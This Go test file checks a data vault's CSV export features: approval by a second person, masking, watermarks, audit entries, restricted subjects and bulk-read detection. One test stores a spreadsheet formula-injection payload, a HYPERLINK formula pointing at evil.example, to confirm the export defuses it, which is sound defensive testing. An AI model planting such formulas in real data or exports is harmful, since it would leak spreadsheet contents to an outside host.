package app_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"custodia/internal/app"
	"custodia/internal/audit"
	"custodia/internal/store"
	"custodia/internal/testutil"
)

func TestExportRegister(t *testing.T) {
	t.Run("sqlite", func(t *testing.T) { exportExamples(t, app.Config{ExportApprovalRecords: 5, BulkReadThreshold: 4}) })
	t.Run("postgres", func(t *testing.T) {
		exportExamples(t, app.Config{ExportApprovalRecords: 5, BulkReadThreshold: 4, DatabaseURL: testutil.MustPostgres(t)})
	})
}

// exportExamples: a small export is approved at once and produced once,
// through the vault's masks, watermarked; a large or sensitive one waits
// for a second person; a bulk read is registered.
func exportExamples(t *testing.T, cfg app.Config) {
	s := testutil.MustServe(t, cfg)
	admin := s.Client(t)
	admin.Must(201, "POST", "/v1/collections", testutil.CustomersSchema)
	admin.Must(201, "POST", "/v1/collections", map[string]any{"name": "payments", "kind": "persons", "fields": []any{
		map[string]any{"name": "card", "type": "card", "category": "user.financial.credit_card", "purposes": []string{"support"}}}})
	dpo := admin.With(admin.RoleToken("dpo"))
	support := admin.With(admin.RoleToken("support"))
	for i := range 3 {
		dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{
			"email": fmt.Sprintf("khach%d@example.vn", i), "phone": fmt.Sprintf("+8491234567%d", i), "name": "Nguyễn Văn An"})
	}
	dpo.Must(201, "POST", "/v1/collections/payments/records?purpose=support", map[string]any{"card": "4111111111111111"})

	// Small, not sensitive: approved at once; produced once, masked for
	// support, watermarked on every row.
	x := support.Must(201, "POST", "/v1/exports", map[string]any{"collection": "customers", "fields": []string{"email", "phone"}, "purpose": "support", "reason": "call list"}).JSON()
	if x["status"] != "approved" || x["records"] != float64(3) || x["approval"] != "" {
		t.Fatalf("small export: %v", x)
	}
	id := x["id"].(string)
	r := support.Must(200, "GET", "/v1/exports/"+id+"/download", nil)
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	if err != nil || len(rows) != 4 || strings.Join(rows[0], ",") != "email,phone,_watermark" {
		t.Fatalf("csv: %v %q", err, r.Body)
	}
	for _, row := range rows[1:] {
		if row[2] != id || !strings.HasSuffix(row[0], "@example.vn") || strings.Contains(row[1], "91234567") {
			t.Errorf("row %q: want the watermark, the e-mail and a masked phone", row)
		}
	}
	if r.Header.Get("Custodia-Watermark") != id {
		t.Errorf("watermark header %q", r.Header.Get("Custodia-Watermark"))
	}
	// Every subject exported is in the audit log under the export's id.
	reads := 0
	for _, e := range admin.Must(200, "GET", "/v1/audit?limit=1000", nil).JSON()["entries"].([]any) {
		m := e.(map[string]any)
		if m["action"] == "export.download" && m["record_id"] == id && m["subject"] != nil && m["subject"] != "" {
			reads++
		}
	}
	if reads != 3 {
		t.Errorf("audit entries of the download's reads: %d, want 3", reads)
	}
	if r := support.Do("GET", "/v1/exports/"+id+"/download", nil); r.Status != 409 || r.Code() != "export_state" {
		t.Errorf("second download: %d %s", r.Status, r.Code())
	}

	// Sensitive: waits; the asker may not approve; another person rejects.
	x = dpo.Must(201, "POST", "/v1/exports", map[string]any{"collection": "payments", "purpose": "support", "reason": "chargeback audit"}).JSON()
	if x["status"] != "pending_approval" || x["sensitive"] != true || !strings.Contains(x["approval"].(string), "user.financial.credit_card") {
		t.Fatalf("sensitive export: %v", x)
	}
	sid := x["id"].(string)
	if r := dpo.Do("POST", "/v1/exports/"+sid+"/approve", map[string]any{"reason": "mine"}); r.Status != 403 || r.Code() != "four_eyes" {
		t.Errorf("self-approval: %d %s", r.Status, r.Code())
	}
	if r := dpo.Do("GET", "/v1/exports/"+sid+"/download", nil); r.Status != 409 {
		t.Errorf("download before approval: %d", r.Status)
	}
	// Another token the admin token made is not another person: its
	// holder made both.
	if r := admin.With(admin.RoleToken("dpo")).Do("POST", "/v1/exports/"+sid+"/approve", map[string]any{"reason": "my other token"}); r.Status != 403 || r.Code() != "four_eyes" {
		t.Errorf("approval through a sibling token: %d %s", r.Status, r.Code())
	}
	if r := admin.Do("POST", "/v1/exports/"+sid+"/approve", map[string]any{"reason": "the creator"}); r.Status != 403 || r.Code() != "four_eyes" {
		t.Errorf("approval through the token that made the asker's: %d %s", r.Status, r.Code())
	}
	approver := admin.Approver()
	approver.Must(200, "POST", "/v1/exports/"+sid+"/reject", map[string]any{"reason": "not needed"})
	if r := approver.Do("POST", "/v1/exports/"+sid+"/approve", map[string]any{"reason": "changed my mind"}); r.Status != 409 || r.Code() != "export_state" {
		t.Errorf("approve after reject: %d %s", r.Status, r.Code())
	}

	// Large (the threshold is 5 records here): waits, then approved by a
	// second person and produced.
	for i := 3; i < 6; i++ {
		dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{"email": fmt.Sprintf("khach%d@example.vn", i)})
	}
	x = support.Must(201, "POST", "/v1/exports", map[string]any{"collection": "customers", "fields": []string{"email"}, "purpose": "support", "reason": "full list"}).JSON()
	if x["status"] != "pending_approval" || !strings.Contains(x["approval"].(string), "6 records") {
		t.Fatalf("large export: %v", x)
	}
	lid := x["id"].(string)
	approver.Must(200, "POST", "/v1/exports/"+lid+"/approve", map[string]any{"reason": "ok for the campaign"})
	if r := dpo.Do("GET", "/v1/exports/"+lid+"/download", nil); r.Status != 403 || r.Code() != "not_your_export" {
		t.Errorf("approver downloads: %d %s", r.Status, r.Code())
	}
	if rows, _ := csv.NewReader(strings.NewReader(string(support.Must(200, "GET", "/v1/exports/"+lid+"/download", nil).Body))).ReadAll(); len(rows) != 7 {
		t.Errorf("large export rows: %d", len(rows))
	}
	// Bad input.
	for code, body := range map[string]map[string]any{
		"reason_required":      {"collection": "customers", "purpose": "support"},
		"unknown_field":        {"collection": "customers", "fields": []string{"salary"}, "purpose": "support", "reason": "x"},
		"purpose_not_declared": {"collection": "customers", "fields": []string{"phone"}, "purpose": "marketing", "reason": "x"},
		"unknown_purpose":      {"collection": "customers", "fields": []string{"phone"}, "purpose": "sales_pitch", "reason": "x"},
		"purpose_required":     {"collection": "customers", "fields": []string{"phone"}, "reason": "x"},
		"duplicate_field":      {"collection": "customers", "fields": []string{"email", "email"}, "purpose": "support", "reason": "x"},
	} {
		if r := dpo.Do("POST", "/v1/exports", body); r.Status != 400 || r.Code() != code {
			t.Errorf("%s: %d %s", code, r.Status, r.Code())
		}
	}
	if r := dpo.Do("POST", "/v1/exports", map[string]any{"collection": "nope", "purpose": "support", "reason": "x"}); r.Status != 404 {
		t.Errorf("unknown collection: %d", r.Status)
	}
	// An export that does not exist is not found, whatever the body.
	for _, body := range []map[string]any{{}, {"reason": "ok"}} {
		if r := approver.Do("POST", "/v1/exports/exp_nope/approve", body); r.Status != 404 {
			t.Errorf("approve an unknown export with %v: %d %s", body, r.Status, r.Code())
		}
	}

	// A bulk read over the detector's threshold (4 here) is registered.
	for range 2 {
		support.Must(200, "GET", "/v1/collections/customers/records?purpose=support&limit=100", nil)
	}
	reg := admin.Must(200, "GET", "/v1/exports", nil).JSON()["exports"].([]any)
	kinds := map[string]int{}
	for _, e := range reg {
		m := e.(map[string]any)
		kinds[m["kind"].(string)+"/"+m["status"].(string)]++
		if m["kind"] == "bulk_read" && len(m["categories"].([]any)) == 0 {
			t.Errorf("a bulk read registered without the categories of what it read: %v", m)
		}
	}
	if kinds["csv_export/produced"] != 2 || kinds["csv_export/rejected"] != 1 || kinds["bulk_read/registered"] < 1 {
		t.Errorf("register: %v", kinds)
	}
}

// TestExportDefusesFormulas: a value a customer typed that a spreadsheet
// would run as a formula is written quoted in a CSV export.
func TestExportDefusesFormulas(t *testing.T) {
	s := testutil.MustServe(t, app.Config{})
	admin := s.Client(t)
	admin.Must(201, "POST", "/v1/collections", testutil.CustomersSchema)
	dpo := admin.With(admin.RoleToken("dpo"))
	dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{
		"email": "evil@example.com", "name": `=HYPERLINK("http://evil.example/?"&A1)`})
	x := dpo.Must(201, "POST", "/v1/exports", map[string]any{"collection": "customers", "fields": []string{"email", "name"}, "purpose": "support", "reason": "check"}).JSON()
	rows, err := csv.NewReader(strings.NewReader(string(dpo.Must(200, "GET", "/v1/exports/"+x["id"].(string)+"/download", nil).Body))).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1)` {
		t.Fatalf("export rows %q, %v", rows, err)
	}
}

// TestExportLeavesOutRestricted: a subject whose processing is restricted
// to other purposes has every field withheld: the export holds no empty
// row for them.
func TestExportLeavesOutRestricted(t *testing.T) {
	s := testutil.MustServe(t, app.Config{})
	admin := s.Client(t)
	admin.Must(201, "POST", "/v1/collections", testutil.CustomersSchema)
	dpo := admin.With(admin.RoleToken("dpo"))
	dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{"email": "open@example.com", "name": "Open Person"})
	restricted := dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{"email": "held@example.com", "name": "Held Person"}).JSON()
	if err := s.DB.SetRestriction(context.Background(), store.Restriction{SubjectID: restricted["subject"].(string), Purposes: []string{"legal"},
		Reason: "accuracy contested", Since: time.Now().UTC(), SetBy: "dpo"}, &audit.Entry{Actor: "test", Action: "subject.restrict"}); err != nil {
		t.Fatal(err)
	}
	s.Access.Invalidate()
	x := dpo.Must(201, "POST", "/v1/exports", map[string]any{"collection": "customers", "fields": []string{"email", "name"}, "purpose": "support", "reason": "handover"}).JSON()
	rows, err := csv.NewReader(strings.NewReader(string(dpo.Must(200, "GET", "/v1/exports/"+x["id"].(string)+"/download", nil).Body))).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][0] != "open@example.com" {
		t.Fatalf("export rows %q, %v; want the header and the unrestricted person only", rows, err)
	}
	// The register says what was exported: one record of one person, not
	// the two records the collection held when it was asked for (QA).
	got := dpo.Must(200, "GET", "/v1/exports/"+x["id"].(string), nil).JSON()
	if got["status"] != "produced" || got["records"] != float64(1) || got["subjects"] != float64(1) {
		t.Fatalf("register entry after the download: %v", got)
	}
}

// TestBulkReadRegisterCountsTheWholeRead: a bulk read's register entry
// counts every record and person its principal read from the start of the
// detector's window until its alert is cleared, not the detector's count
// when it tripped (QA: 30 read, registered as 0 records and 6 people).
func TestBulkReadRegisterCountsTheWholeRead(t *testing.T) {
	s := testutil.MustServe(t, app.Config{BulkReadThreshold: 5})
	admin := s.Client(t)
	admin.Must(201, "POST", "/v1/collections", testutil.CustomersSchema)
	dpo := admin.With(admin.RoleToken("dpo"))
	var ids []string
	for i := range 30 {
		ids = append(ids, dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support",
			map[string]any{"email": fmt.Sprintf("bulk%d@example.vn", i)}).JSON()["id"].(string))
	}
	support := admin.With(admin.RoleToken("support"))
	page := support.Must(200, "GET", "/v1/collections/customers/records?purpose=support&limit=20", nil).JSON()["records"].([]any)
	last := page[len(page)-1].(map[string]any)["id"].(string)
	support.Must(200, "GET", "/v1/collections/customers/records?purpose=support&limit=20&after="+last, nil)
	support.Must(200, "GET", "/v1/collections/customers/records/"+ids[0]+"?purpose=support", nil) // read again: no new person
	bulk := func() map[string]any {
		t.Helper()
		var found map[string]any
		for _, e := range dpo.Must(200, "GET", "/v1/exports", nil).JSON()["exports"].([]any) {
			if m := e.(map[string]any); m["kind"] == "bulk_read" {
				if found != nil {
					t.Fatalf("two bulk-read entries: %v and %v", found, m)
				}
				found = m
			}
		}
		if found == nil {
			t.Fatal("no bulk read registered")
		}
		return found
	}
	x := bulk()
	if x["records"] != float64(31) || x["subjects"] != float64(30) || x["from"] == nil || x["until"] != nil {
		t.Errorf("open bulk read: %v records, %v subjects (from %v, until %v), want 31 record reads of 30 people, still open", x["records"], x["subjects"], x["from"], x["until"])
	}
	if got := dpo.Must(200, "GET", "/v1/exports/"+x["id"].(string), nil).JSON(); got["records"] != float64(31) || got["subjects"] != float64(30) {
		t.Errorf("GET one: %v records, %v subjects", got["records"], got["subjects"])
	}
	// Cleared: the count is final; later reads are a new window's.
	for _, a := range admin.Must(200, "GET", "/v1/alerts?open=true", nil).JSON()["alerts"].([]any) {
		if m := a.(map[string]any); m["kind"] == "bulk_read" {
			admin.Must(200, "POST", "/v1/alerts/"+m["id"].(string)+"/clear", nil)
		}
	}
	dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{"email": "later@example.vn"})
	support.Must(200, "GET", "/v1/collections/customers/records?purpose=support&limit=3", nil)
	if x := bulk(); x["records"] != float64(31) || x["subjects"] != float64(30) || x["until"] == nil {
		t.Errorf("after the alert was cleared: %v records, %v subjects, until %v; want 31, 30 and an end", x["records"], x["subjects"], x["until"])
	}
}

// TestBlockedDownloadIsNoDelivery: a CSV download the bulk-read detector
// blocks delivers nothing, so the register does not say a copy was
// produced and the export stays approved, to be downloaded once the block
// is lifted (QA: it stayed "produced", and a later download said
// export_state).
func TestBlockedDownloadIsNoDelivery(t *testing.T) {
	admin, dpo := customersServer(t, app.Config{BulkReadThreshold: 5, BlockBulkReads: true}, 8)
	support := admin.With(admin.RoleToken("support"))
	x := support.Must(201, "POST", "/v1/exports", map[string]any{"collection": "customers", "fields": []string{"email"}, "purpose": "support", "reason": "call list"}).JSON()
	id := x["id"].(string)
	if r := support.Do("GET", "/v1/exports/"+id+"/download", nil); r.Status != 403 || r.Code() != "principal_blocked" || strings.Contains(string(r.Body), "@example.vn") {
		t.Fatalf("the download that trips the detector: %d %s", r.Status, r.Body)
	}
	if got := dpo.Must(200, "GET", "/v1/exports/"+id, nil).JSON(); got["status"] != "approved" || got["produced_at"] != nil {
		t.Errorf("register after a blocked download: %v", got)
	}
}

// TestExportRegisterKeepsWhatWasDelivered: the register of a downloaded
// export names the categories of the columns that held a value, not of
// those asked for: marketing exporting e-mails without anyone's consent
// gets no row, and holds no category (QA: registered as holding e-mails).
func TestExportRegisterKeepsWhatWasDelivered(t *testing.T) {
	admin, dpo := customersServer(t, app.Config{}, 3)
	mkt := admin.With(admin.RoleToken("marketing"))
	x := mkt.Must(201, "POST", "/v1/exports", map[string]any{"collection": "customers", "fields": []string{"email"}, "purpose": "marketing", "reason": "newsletter"}).JSON()
	if cats := x["categories"].([]any); len(cats) != 1 {
		t.Fatalf("asked for: %v", x)
	}
	id := x["id"].(string)
	body := mkt.Must(200, "GET", "/v1/exports/"+id+"/download", nil).Body
	if strings.Contains(string(body), "@example.vn") {
		t.Fatalf("an e-mail without consent was exported: %s", body)
	}
	got := dpo.Must(200, "GET", "/v1/exports/"+id, nil).JSON()
	if got["status"] != "produced" || got["records"] != float64(0) || len(got["categories"].([]any)) != 0 {
		t.Errorf("register after the download: %v", got)
	}
}

// customersServer serves cfg with the customers collection holding n
// people (rowN@example.vn) and returns the admin and a dpo client.
func customersServer(t *testing.T, cfg app.Config, n int) (admin, dpo *testutil.Client) {
	t.Helper()
	admin = testutil.MustServe(t, cfg).Client(t)
	admin.Must(201, "POST", "/v1/collections", testutil.CustomersSchema)
	dpo = admin.With(admin.RoleToken("dpo"))
	for i := range n {
		dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{"email": fmt.Sprintf("row%d@example.vn", i)})
	}
	return admin, dpo
}
